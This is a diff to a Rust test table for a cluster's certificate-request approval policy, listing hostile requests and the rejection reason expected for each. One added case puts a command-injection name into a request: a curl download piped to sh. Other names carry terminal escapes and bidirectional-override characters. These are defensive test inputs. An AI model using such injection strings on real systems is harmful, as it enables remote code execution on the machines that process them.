@@ -1,7 +1,7 @@
 //! Hostile and odd requests: what each is made from, what is wrong with it, and what the policy says to it.
 
 use hardway_assets::pki::der;
-use hardway_cluster::csr_policy::{ReasonCode as R, State};
+use hardway_cluster::csr_policy::{ReasonCode as R, RequestState};
 
 use super::pkcs10::{CN, O, OU, dns, email, extension, extension_list, ip, names_extension, uri};
 use super::request::{ADDRESS, BOOTSTRAPPER, BOOTSTRAPPER_GROUPS, Draft, HOST_GROUPS, HOST_USER, NODE, ago};
@@ -25,8 +25,14 @@ pub(crate) const CASES: &[(&str, Base, Spoil, R)] = &[
     ("signer in capitals", SERVING, |d| d.request.signer = d.request.signer.to_uppercase(), R::SignerNotOurs),
     ("empty signer", CLIENT, |d| d.request.signer.clear(), R::SignerNotOurs),
     ("network operator's signer", CLIENT, |d| d.request.signer = "network.openshift.io/signer".into(), R::SignerNotOurs),
-    ("replay of an approved one", CLIENT, |d| d.request.state = State::Approved { at: ago(60), issued: true }, R::NotPending),
-    ("replay of a denied one", SERVING, |d| d.request.state = State::Ended, R::NotPending),
+    ("a name that is a command", CLIENT, |d| d.request.name = "csr-x7k2p;curl${IFS}10.0.0.66|sh".into(), R::RequestNameOdd),
+    ("a name that is another's address", CLIENT, |d| d.request.name = "csr-x7k2p?x=1".into(), R::RequestNameOdd),
+    ("a name that is no address", SERVING, |d| d.request.name = "csr x7k2p".into(), R::RequestNameOdd),
+    ("a name that moves the cursor", RENEWAL, |d| d.request.name = "csr-\u{1b}[2Jx".into(), R::RequestNameOdd),
+    ("a name that reads backwards", CLIENT, |d| d.request.name = "csr-\u{202e}p2k7x".into(), R::RequestNameOdd),
+    ("a name without end", CLIENT, |d| d.request.name = "x".repeat(254), R::RequestNameOdd),
+    ("replay of an approved one", CLIENT, |d| d.request.state = RequestState::Approved { at: ago(60), issued: true }, R::NotPending),
+    ("replay of a denied one", SERVING, |d| d.request.state = RequestState::Ended, R::NotPending),
 
     // The object.
     ("oversized by text", CLIENT, |d| d.edit_pem = |pem| (pem + &"\n".repeat(20_000)).into_bytes(), R::RequestTooLarge),
@@ -220,13 +226,14 @@ pub(crate) const CASES: &[(&str, Base, Spoil, R)] = &[
 
     // The node.
     ("a node that is there", CLIENT, |d| { d.nodes = Draft::serving().nodes; }, R::NodeExists),
-    ("a node that is there since long", CLIENT, |d| { d.nodes = Draft::serving().nodes; d.nodes.get_mut(NODE).unwrap().created = ago(9_000_000); d.redemptions[0].at = ago(9_000_600); }, R::NodeExists),
+    ("a node that exists since long", CLIENT, |d| { d.nodes = Draft::serving().nodes; d.nodes.get_mut(NODE).unwrap().created = ago(9_000_000); d.redemptions[0].at = ago(9_000_600); }, R::NodeExists),
     ("serving without a node", SERVING, |d| d.nodes.clear(), R::NodeMissing),
     ("renewal without a node", RENEWAL, |d| d.nodes.clear(), R::NodeMissing),
     ("a node of that name elsewhere", SERVING, |d| d.nodes.get_mut(NODE).unwrap().addresses = vec!["10.9.9.9".parse().unwrap()], R::NodeElsewhere),
 
     // Its config.
     ("config not fetched", CLIENT, |d| d.redemptions[0].host = "worker-1".into(), R::IgnitionNotRedeemed),
+    ("config not fetched, but others fetched theirs", CLIENT, |d| d.redemptions.clear(), R::IgnitionNotRedeemed),
     ("config of nobody, required", CLIENT, |d| { d.redemptions.clear(); d.settings.ignition = hardway_cluster::csr_policy::IgnitionEvidence::Required; }, R::IgnitionNotRedeemed),
     ("config fetched from elsewhere", CLIENT, |d| d.redemptions[0].source = "192.168.126.66".parse().unwrap(), R::IgnitionRedeemedElsewhere),
     ("config fetched by a stranger first", CLIENT, |d| { let mut stranger = d.redemptions[0].clone(); stranger.at = ago(900); stranger.source = "10.1.1.1".parse().unwrap(); d.redemptions.push(stranger); }, R::IgnitionRedeemedElsewhere),
